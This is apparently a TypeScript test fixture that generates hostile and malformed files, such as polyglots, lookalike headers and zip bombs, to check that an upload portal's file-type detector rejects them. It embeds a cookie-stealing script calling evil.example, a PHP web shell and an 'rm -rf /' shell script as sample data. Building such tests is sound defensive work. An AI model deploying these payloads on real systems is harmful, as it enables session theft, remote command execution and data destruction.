import { randomBytes } from 'node:crypto';
import { jpeg, pdf, png } from './files.ts';
import { box, id3, isoMedia, mp3, oggPage, oggWithVideo, opus } from './media.ts';
import { MACRO_PARTS, SHEET_PARTS, WORD_PARTS, zip, type Part } from './zip.ts';
import { defined } from '../../support/defined.ts';

const text = (content: string): Buffer => Buffer.from(content, 'latin1');

const SCRIPT = '<script>fetch("https://evil.example/"+document.cookie)</script>';

/** Executables, scripts, markup and other formats that the portal does not accept. */
function otherTypes(): [string, Buffer][] {
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">${SCRIPT}</svg>`;
  return [
    ['nothing', Buffer.alloc(0)],
    ['one byte', text('%')],
    ['zeros', Buffer.alloc(4096)],
    ['plain text', text('hello')],
    ['SVG', text(svg)],
    ['SVG with declaration', text(`<?xml version="1.0"?>${svg}`)],
    ['SVG after a byte-order mark', Buffer.concat([Buffer.from('efbbbf', 'hex'), text(svg)])],
    ['HTML', text(`<!doctype html><html>${SCRIPT}</html>`)],
    ['XHTML', text(`<?xml version="1.0"?><html xmlns="http://www.w3.org/1999/xhtml">${SCRIPT}</html>`)],
    ['PHP', text('<?php system($_GET["c"]); ?>')],
    ['JavaScript', text('alert(document.domain)')],
    ['shell', text('#!/bin/sh\nrm -rf /\n')],
    ['Windows program', text(`MZ${'\0'.repeat(58)}\x80\0\0\0PE\0\0`)],
    ['Linux program', text(`\x7fELF\x02\x01\x01${'\0'.repeat(60)}`)],
    ['Java class', Buffer.from('cafebabe00000034', 'hex')],
    ['Word 97 document', Buffer.from(`d0cf11e0a1b11ae1${'00'.repeat(600)}`, 'hex')],
    ['RTF', text('{\\rtf1\\ansi{\\object\\objemb}}')],
    ['GIF with script', text(`GIF89a/*${SCRIPT}*/=1;`)],
    ['BMP', text('BM\x46\0\0\0\0\0\0\0\x36\0\0\0')],
    ['TIFF', text('II*\0\x08\0\0\0')],
    ['PSD', text('8BPS\0\x01')],
    ['icon', Buffer.from('00000100010010100000', 'hex')],
    ['RAR', text('Rar!\x1a\x07\x01\0')],
    ['7z', Buffer.from('377abcaf271c0004', 'hex')],
    ['gzip', Buffer.from('1f8b0800000000000003', 'hex')],
    ['PostScript', text('%!PS-Adobe-3.0\n(x) run')],
    ['Windows shortcut', Buffer.from('4c0000000114020000000000c000000000000046', 'hex')],
    ['Flash', text('CWS\x0a\0\0\0\0')],
    ['WebM', Buffer.from('1a45dfa39f4286810142f7810142f2810442f381084282847765626d', 'hex')],
    ['WAV', text(`RIFF\x24\0\0\0WAVEfmt ${'\0'.repeat(30)}`)],
    ['AVI', text(`RIFF\x24\0\0\0AVI LIST${'\0'.repeat(30)}`)],
  ];
}

/** Files that begin like an accepted kind. */
async function lookalikes(): Promise<[string, Buffer][]> {
  return [
    ['PDF header after 1,024 bytes', Buffer.concat([Buffer.alloc(1024, '\n'), pdf()])],
    ['PDF header only', text('%PDF-1.7\n')],
    ['PDF header and HTML', text(`%PDF-1.7\n${SCRIPT}`)],
    ['PDF without an end', pdf().subarray(0, 200)],
    ['PDF without an object', text('%PDF-1.7\n%%EOF\n')],
    ['PDF without a version', Buffer.concat([text('%PDF-x'), pdf().subarray(8)])],
    ['PDF followed by HTML', Buffer.concat([pdf(), text(SCRIPT)])],
    ['PDF followed by an archive', Buffer.concat([pdf(), zip(WORD_PARTS)])],
    ['PDF end marker in an archive comment', Buffer.concat([pdf(), zip([{ name: 'a', content: 'b' }], '%%EOF\n')])],
    ['PDF followed by a program', Buffer.concat([pdf(), text('MZ'), Buffer.alloc(4000, 1)])],
    ['MP3 signature only', Buffer.concat([Buffer.from('fffb9000', 'hex'), Buffer.alloc(5000)])],
    ['ID3 tag only', id3(3000)],
    ['ID3 tag followed by HTML', Buffer.concat([id3(20), text(`<html>${SCRIPT}`.repeat(50))])],
    [
      'a few MP3 frames followed by HTML',
      Buffer.concat([(await mp3()).subarray(0, 1000), text(`<html>${SCRIPT}`.repeat(200))]),
    ],
    [
      'MPEG layer II',
      Buffer.concat(
        Array.from({ length: 8 }, () => Buffer.concat([Buffer.from('fffd9000', 'hex'), Buffer.alloc(414)])),
      ),
    ],
    ['AAC stream', Buffer.concat(Array.from({ length: 8 }, () => Buffer.from('fff15080017ffc', 'hex')))],
    ['M4A header only', box('ftyp', 'M4A ', '\0\0\0\0', 'isom')],
    ['MP4 with zeros', Buffer.concat([box('ftyp', 'isom', '\0\0\0\0', 'isom'), Buffer.alloc(5000)])],
    ['MP4 without tracks', isoMedia('isom', [])],
    ['MP4 followed by HTML', Buffer.concat([isoMedia('isom', ['vide']), text(`<html>${SCRIPT}`)])],
    ['MP4 with subtitles only', isoMedia('isom', ['sbtl'])],
    ['box longer than the file', Buffer.concat([isoMedia('isom', ['vide']), Buffer.from('7fffffff6d646174', 'hex')])],
    ['QuickTime', isoMedia('qt  ', ['vide'])],
    ['3GP', isoMedia('3gp4', ['vide'])],
    ['HEIC', isoMedia('heic', ['pict'])],
    ['AVIF', isoMedia('avif', ['pict'])],
    ['Ogg signature only', text('OggS')],
    ['Ogg of one page', oggPage(1, 2, 'OpusHead')],
    ['Ogg with video', oggWithVideo()],
    ['Ogg with an unknown codec', Buffer.concat([oggPage(1, 2, 'fishead\0'), oggPage(1, 4, 'x')])],
    ['Ogg followed by HTML', Buffer.concat([opus(), text(`<html>${SCRIPT}`)])],
    ['JPEG after HTML', Buffer.concat([text(SCRIPT), await jpeg()])],
    ['PNG with a wrong signature', Buffer.concat([Buffer.from('89504e470a0a1a0a', 'hex'), (await png()).subarray(8)])],
  ];
}

const wordWith = (...parts: Part[]): Buffer => zip([...WORD_PARTS, ...parts]);
const MB = 1024 * 1024;

/** ZIP archives that are no Word or Excel document, or a malformed one. */
function archives(): [string, Buffer][] {
  const valid = zip(WORD_PARTS);
  const zeros = (size: number) => ({ name: 'word/media/image1.bin', content: Buffer.alloc(size) });
  return [
    ['plain archive', zip([{ name: 'readme.txt', content: 'x' }])],
    ['empty archive', text(`PK\x05\x06${'\0'.repeat(18)}`)],
    ['Java archive', zip([{ name: 'META-INF/MANIFEST.MF', content: 'Main-Class: x' }])],
    ['Android package', zip([{ name: 'AndroidManifest.xml', content: 'x' }])],
    ['OpenDocument', zip([{ name: 'mimetype', content: 'application/vnd.oasis.opendocument.text', method: 0 }])],
    ['document without [Content_Types].xml', zip(WORD_PARTS.slice(1))],
    ['[Content_Types].xml without a document', zip(WORD_PARTS.slice(0, 2))],
    ['slides', zip([defined(WORD_PARTS[0]), { name: 'ppt/presentation.xml', content: '<p/>' }])],
    ['Word and Excel parts together', zip([...WORD_PARTS, ...SHEET_PARTS.slice(1)])],
    ['macro-enabled content type', zip(MACRO_PARTS)],
    ['compression ratio of 1,000:1', wordWith(zeros(20 * MB))],
    ['compression ratio of 1,000:1 in a small entry', wordWith(zeros(100 * 1024))],
    [
      'a thousand entries with a ratio of 1,000:1',
      wordWith(...Array.from({ length: 1000 }, (_, index) => ({ ...zeros(64 * 1024), name: `word/${index}.xml` }))),
    ],
    ['declared size of 4 GB', wordWith({ name: 'a', content: 'x'.repeat(100), declared: 0xfffffffe })],
    ['declared sizes of 300 MB together', wordWith(...partsDeclaringTooMuch())],
    [
      'too many entries',
      wordWith(...Array.from({ length: 4001 }, (_, index) => ({ name: `word/${index}.xml`, content: '' }))),
    ],
    ['duplicate entry name', wordWith({ name: 'word/document.xml', content: 'another' })],
    ['encrypted entry', wordWith({ name: 'a', content: 'x', flags: 1 })],
    ['unknown compression method', wordWith({ name: 'a', content: 'x', method: 12 })],
    ['stored entry with a larger declared size', wordWith({ name: 'a', content: 'x', method: 0, declared: 5 })],
    ['program before the archive', Buffer.concat([text('MZ'), valid])],
    ['HTML after the archive', Buffer.concat([valid, text(SCRIPT)])],
    ['overlapping entries', overlappingEntries()],
    ['truncated archive', valid.subarray(0, valid.length - 30)],
    [
      '[Content_Types].xml larger than its limit',
      zip([{ name: '[Content_Types].xml', content: Buffer.alloc(MB, 'ab12') }, ...WORD_PARTS.slice(1)]),
    ],
    ['corrupt [Content_Types].xml', corruptContentTypes()],
  ];
}

/** Parts that each keep the compression ratio but declare 300 MB together. */
function partsDeclaringTooMuch(): Part[] {
  return Array.from({ length: 200 }, (_, index) => ({
    name: `word/media/${index}`,
    content: randomBytes(5000),
    declared: 1_500_000,
  }));
}

/** The compressed [Content_Types].xml is not a valid deflate stream. */
function corruptContentTypes(): Buffer {
  const bytes = zip(WORD_PARTS);
  const packed = 30 + '[Content_Types].xml'.length;
  bytes.fill(0xff, packed, packed + 40);
  return bytes;
}

/** The directory entry of the third file points at the second file. */
function overlappingEntries(): Buffer {
  const bytes = zip(WORD_PARTS);
  const records = [0, 1, 2].map((index) => {
    let at = bytes.indexOf('PK\x01\x02', 0, 'latin1');
    for (let step = 0; step < index; step++) at = bytes.indexOf('PK\x01\x02', at + 4, 'latin1');
    return at;
  });
  bytes.writeUInt32LE(bytes.readUInt32LE(defined(records[1]) + 42), defined(records[2]) + 42);
  return bytes;
}

/** Files that must not be detected as an accepted kind. */
export async function hostileFiles(): Promise<[name: string, bytes: Buffer][]> {
  return [...otherTypes(), ...(await lookalikes()), ...archives()];
}
